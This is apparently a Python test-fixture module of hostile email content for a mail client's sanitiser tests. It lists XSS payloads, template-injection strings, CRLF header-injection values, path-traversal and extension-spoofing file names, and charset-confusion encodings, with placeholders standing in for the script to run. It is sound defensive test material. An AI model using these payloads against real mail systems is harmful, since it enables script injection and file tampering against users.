# ruff: noqa: E501
"""Mail that attacks by what stands around its text: subjects, names of people and of files,
character sets. `CANARY`, `HOST` and `RUN` mean what they mean in `hostile_html`."""

from base64 import b64encode
from collections.abc import Mapping, Sequence
from urllib.parse import quote

WORD = "lantern"
"""Stands in the text of each, so that a search finds them all."""

UTF_7 = "utf-7 as attackers write it"
_UTF_8 = "utf-8''"

_ZALGO = "".join(letter + "\u0300\u0301\u0316\u0323\u0346\u035d\u0489" * 12 for letter in "invoice")

TEXTS: Sequence[str] = (
    "<script>RUN</script>",
    "<img src=CANARY onerror=RUN>",
    "'\"><img src=x onerror=RUN>",
    '"><svg onload=RUN>',
    "' onmouseover='RUN' x='",
    '" autofocus onfocus="RUN" x="',
    "</title><script>RUN</script>",
    "</textarea></style></script></iframe><img src=x onerror=RUN>",
    "--><img src=x onerror=RUN><!--",
    "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "javascript:RUN",
    "<mark>lantern</mark><script>RUN</script>lantern",
    "lan<b>tern</b> lantern<img src=x onerror=RUN>lantern",
    "</li></ol></form><form action=CANARY><button>Sign in</button></form>",
    "<div hx-get=CANARY hx-trigger=load hx-swap-oob=innerHTML:#main id=rows>x</div>",
    "<base href=CANARY><meta http-equiv=refresh content='0;url=CANARY'>",
    "x\r\nBcc: victim@example.org\r\n\r\n<script>RUN</script>",
    "x\r\nSet-Cookie: pwned=1\r\nLocation: CANARY\r\n",
    "x\n\ndata: <script>RUN</script>\nevent: message\nid: 99999999999\n\n",
    "x\u2028data: y\u2029\u0085event: z",
    "\u202egpj.exe \u2066moc.knab\u2069 \u200f\u200e",
    "\0\x01\x07\x08\x1b[31mred\x1b[0m\x7f\x9f",
    _ZALGO + " " + _ZALGO,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 " * 40 + "\U000e0041\ufeff\u200b\u2060\u00ad",
    "\ufdfd\U00012031" * 60,
    "W" * 100_000,
    "x " * 50_000,
    "\u115f\u3164 \u2800 \u00a0",
    "\udcff\ufffe\uffff\ufffd",
    "http://anchor.hostile.test/ CANARY //HOST/x www.hostile.test",
    "<meta name=htmx-config content='{\"allowEval\":true}'><script src=CANARY></script>",
)

FILE_NAMES: Sequence[str] = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/cron.d/x",
    "C:\\autoexec.bat",
    "photo\u202egpj.exe",
    "x.pdf\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
    "x\r\nSet-Cookie: pwned=1",
    "<script>RUN</script>.html",
    "<img src=CANARY onerror=RUN>.png",
    '"><img src=x onerror=RUN>.svg',
    "' onmouseover='RUN'.txt",
    "n" * 5000 + ".txt",
    "CON.txt",
    "nul",
    "aux. . .",
    ".htaccess",
    ".",
    "",
    "x\0.exe",
    "report.pdf" + " " * 300 + ".exe",
    "invoice.html",
    "picture.svg",
    "a;b&c|d`e$(f).sh",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    _ZALGO + ".doc",
)

_MARKUP = "<img src=x onerror=RUN><script>RUN</script><img src=CANARY>"
_XHTML = f"<html xmlns='http://www.w3.org/1999/xhtml'>{_MARKUP}</html>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=RUN><script>RUN</script></svg>"

# What a part says that it is, its text, and how that is really encoded. Latin-1 stands for bytes.
CONTENTS: Mapping[str, tuple[str, str, str]] = {
    "utf-7": ("text/html; charset=utf-7", _MARKUP, UTF_7),
    "utf-7 unsaid": ("text/html", f"+/v8-{_MARKUP}", UTF_7),
    "utf-16": ("text/html; charset=utf-16", _MARKUP, "utf-16"),
    "utf-16 said to be utf-8": ("text/html; charset=utf-8", _MARKUP, "utf-16-le"),
    "utf-32": ("text/html; charset=utf-32", _MARKUP, "utf-32"),
    "byte order mark": ("text/html; charset=us-ascii", _MARKUP, "utf-8-sig"),
    "overlong": ("text/html", "\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe", "latin-1"),
    "iso-2022-jp": ("text/html; charset=iso-2022-jp", f"\x1b$B<x\x1b(B>{_MARKUP}", "latin-1"),
    "iso-2022-jp open": ("text/html; charset=iso-2022-jp", f"<p title='\x1b$B'>{_MARKUP}", "latin-1"),
    "shift-jis": ("text/html; charset=shift_jis", f"<p title='\x81'>{_MARKUP}'>", "latin-1"),
    "gb18030": ("text/html; charset=gb18030", f"<p title='\x81\x22>{_MARKUP}'>", "latin-1"),
    "ebcdic": ("text/html; charset=cp037", _MARKUP, "cp037"),
    "hz": ("text/html; charset=hz-gb-2312", f"~{{<script>~}}{_MARKUP}", "latin-1"),
    "markup as charset": ('text/html; charset="<script>RUN</script>"', _MARKUP, "utf-8"),
    "markup as type": ('text/<script>RUN</script>; name="<img src=x onerror=RUN>"', _MARKUP, "utf-8"),
    "xhtml": ("application/xhtml+xml", _XHTML, "utf-8"),
    "svg": ("image/svg+xml", _SVG, "utf-8"),
    "enriched": ("text/enriched", _MARKUP, "utf-8"),
    "plain": ("text/plain", f"{_MARKUP} http://anchor.hostile.test/ javascript:RUN", "utf-8"),
    "plain links": ("text/plain", f"http://x.hostile.test/\"onclick=RUN http://y'>{_MARKUP}", "utf-8"),
    "external body": ('message/external-body; access-type=URL; URL="CANARY"', _MARKUP, "utf-8"),
    "partial": ("message/partial; id=x; number=1; total=1", _MARKUP, "utf-8"),
    "message": ("message/rfc822", f"Subject: {_MARKUP}\r\n\r\n{_MARKUP}", "utf-8"),
    "report": ("multipart/report; boundary=CANARY", f"--CANARY\r\n\r\n{_MARKUP}", "utf-8"),
}  # fmt: skip


def encode_text(text: str, encoding: str) -> bytes:
    if encoding == UTF_7:
        return text.replace("<", "+ADw-").replace(">", "+AD4-").encode()
    return text.encode(encoding)


def encode_words(text: str) -> str:
    """As RFC 2047 writes it, which carries any character, line ends too."""
    raw = text.encode(errors="surrogateescape")
    pieces = [raw[start : start + 45] for start in range(0, len(raw), 45)]
    return "\r\n ".join(f"=?utf-8?b?{b64encode(piece).decode()}?=" for piece in pieces)


def encode_parameter(name: str, value: str) -> str:
    """As RFC 2231 writes it, in short pieces."""
    raw = value.encode(errors="surrogateescape")
    pieces = [raw[start : start + 20] for start in range(0, len(raw), 20)] or [b""]
    return "".join(
        f";\r\n {name}*{number}*={'' if number else _UTF_8}{quote(piece, safe='')}"
        for number, piece in enumerate(pieces)
    )
